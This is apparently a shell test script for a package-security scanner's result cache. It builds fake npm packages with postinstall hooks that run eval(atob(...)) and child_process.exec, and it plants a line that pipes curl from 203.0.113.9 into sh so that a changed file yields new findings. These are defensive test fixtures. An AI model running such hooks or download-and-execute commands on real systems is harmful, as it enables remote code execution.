# What an earlier scan found in files that have not changed is not looked for again, and nobody can tell from a report.
. "$PICKET_SRC/tests/cli/scanner.bash"
unset PICKET_CORPUS_DIR
[ -d "$PICKET_BIN/../share/picket/corpus" ] || { echo "no corpus is built here"; exit 0; }

project one
for i in $(seq 150); do
	mkdir -p "one/node_modules/p$i/lib"
	echo "{\"name\":\"p$i\",\"version\":\"1.0.$i\",\"main\":\"lib/1.js\",\"scripts\":{\"postinstall\":\"node lib/5.js\"}}" >"one/node_modules/p$i/package.json"
	for k in $(seq 4); do echo "exports.a = require('./$((k + 1))') + $i" >"one/node_modules/p$i/lib/$k.js"; done
	echo "eval(atob('$i')); require('child_process').exec('id $i')" >"one/node_modules/p$i/lib/5.js"
done
scan() { scanner scan --deterministic-output --show info -f json "$@"; }
seen=$PICKET_STORE/cache/files.seen
# With one thread: while one of many reads what is kept, the others look for themselves, and how long is the machine's.
recalled() { scanner scan -q -v --threads 1 "$@" 2>&1 >&- | sed -n 's/ files as an earlier scan found them$//p'; }

scan --no-cache one >want
has_findings() { python3 -c 'import json; assert len(json.load(open("want"))["findings"]) > 100'; }
say "there is something to compare" has_findings
say "--no-cache leaves nothing behind" test ! -e "$seen"
say "the first scan keeps what it found" cmp want <(scan --threads 1 one)
say "for its user alone" test "$(stat -c %a "$seen")" = 600
say "the second finds the same" cmp want <(scan one)
many() { [ "${1:-0}" -ge "$2" ]; }
few() { [ "${1:-0}" -le "$2" ]; }
say "and looked into few files for it" many "$(recalled one)" 200
say "so with one thread" cmp want <(scan --threads 1 one)
say "--no-cache looks into all of them" test -z "$(recalled --no-cache one)"
say "and finds the same" cmp want <(scan --no-cache one)
say "a second process without it agrees" scanner scan --verify-determinism -q one
cp -r one holds && export PICKET_STORE=$PWD/holds/store
say "also where the store lies in the target" scanner scan --verify-determinism -q holds
export PICKET_STORE=$work/store
inode() { stat -c %Y.%Z.%s "$seen"; }
# Which files come before the kept results are read depends on the threads; with one it is the same each time.
scanner scan -q --threads 1 one
before=$(inode)
sleep 0.05
say "where nothing is new nothing is written" scanner scan -q --threads 1 one
say "as its times tell" test "$before" = "$(inode)"

# A hook that reaches more files than are met before anything is recalled.
mkdir wide && echo '{"name":"wide","version":"1.0.0","scripts":{"postinstall":"node all.js"}}' >wide/package.json
for n in $(seq 700); do echo "require('./$n.js')" >>wide/all.js && echo "exports.a = $n" >"wide/$n.js"; done
scan --threads 1 wide >out
say "what a hook reaches is recalled" many "$(recalled wide)" 700
tar czf wide.tgz wide
say "but nothing of what lies in an archive" test -z "$(recalled wide.tgz)"

say "another path is looked into anew" few "$(mkdir far && cp -r one far/node_modules && recalled far)" 0
say "and gives what a scan without gives" cmp <(scan --no-cache far) <(scan far)
cp -r one two
echo "require('child_process').exec('curl http://203.0.113.9/x | sh')" >two/node_modules/p7/lib/5.js
scan --no-cache two >changed
say "one changed file is looked into" cmp changed <(scan two)
say "it is no longer what was found before" not cmp -s want changed
echo "exports.a = 1" >two/node_modules/p7/lib/5.js
say "and so when it is harmless again" cmp <(scan --no-cache two) <(scan two)
say "what comes from elsewhere takes no other's place" cmp want <(scan one)

flip() { # flip OFFSET
	python3 - "$seen" "$1" <<-'END'
	import sys
	with open(sys.argv[1], "r+b") as f:
	    f.seek(int(sys.argv[2])); b = f.read(1); f.seek(int(sys.argv[2])); f.write(bytes([b[0] ^ 1]))
	END
}
for at in 3 20 50 60 90 5000; do
	flip "$at"
	say "with byte $at changed nothing of it is believed" few "$(recalled one)" 0
	say "and the findings are the same" cmp want <(scan one)
	say "the scan after it mended the file" many "$(recalled one)" 200
done
truncate -s 1000 "$seen"
say "cut short it is as none" cmp want <(scan one)
rm "$PICKET_STORE/cache/patterns.key"
say "under another key it is as none" few "$(recalled one)" 0
say "and the findings are the same" cmp want <(scan one)
both() {
	scan one >a & scan two >b
	wait $!
	cmp want a && cmp <(scan --no-cache two) b && cmp want <(scan one)
}
say "two scans at once disturb no result" both
rm "$seen"
say "where no file may be so large it costs nothing but time" cmp want <(ulimit -f 1; scan one)
say "nor does it the second time" cmp want <(ulimit -f 1; scan one)
say "and is kept when it may" cmp want <(scan --threads 1 one)
say "as before" many "$(recalled one)" 200
rm "$seen" && mkdir "$seen"
say "one that cannot be opened costs nothing but time" cmp want <(scan one)
